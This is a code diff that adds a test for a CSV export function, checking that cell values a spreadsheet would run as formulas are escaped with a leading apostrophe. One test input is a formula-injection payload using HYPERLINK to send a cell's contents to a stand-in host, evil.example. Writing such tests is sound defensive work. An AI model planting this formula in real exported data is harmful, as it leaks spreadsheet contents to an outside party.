@@ -29,6 +29,26 @@ describe('tables as files', () => {
     ]);
   });
 
+  it('keeps text a spreadsheet would run as a formula as text in CSV, and amounts and numbers as they are', () => {
+    const hostile: Row[] = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"付款")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+    ].map((name) => ({ name, amount: -37_055, at: new Date('2027-03-01T01:00:00Z') }));
+    const lines = toCsv(columns, hostile).toString('utf8').slice(1).split('\r\n').slice(1, -1);
+    expect(lines).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""付款"")",-370.55,2027-03-01T01:00:00.000Z`,
+      "'+1+1,-370.55,2027-03-01T01:00:00.000Z",
+      "'-2+3,-370.55,2027-03-01T01:00:00.000Z",
+      "'@SUM(A1),-370.55,2027-03-01T01:00:00.000Z",
+      "'\tx,-370.55,2027-03-01T01:00:00.000Z",
+      `"'\rx",-370.55,2027-03-01T01:00:00.000Z`,
+    ]);
+  });
+
   it('writes a worksheet with a title, the header in both languages and amounts as formatted yuan', async () => {
     const workbook = newWorkbook();
     addTable(workbook, 'Sheet', 'A title', columns, rows);
